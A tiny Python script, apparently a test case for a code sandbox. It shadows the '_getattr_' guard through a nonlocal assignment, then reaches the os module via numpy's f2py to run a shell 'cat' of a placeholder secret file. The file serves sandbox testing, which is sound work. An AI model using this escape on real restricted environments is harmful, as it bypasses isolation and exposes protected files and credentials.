"""A function inside a function changes the outer one's."""
import numpy as np
module = [np][0]
def outer():
    _getattr_ = None
    def inner():
        nonlocal _getattr_
        _getattr_ = getattr
    inner()
    print(module.f2py.os.popen("cat @SECRET_FILE@").read())
outer()
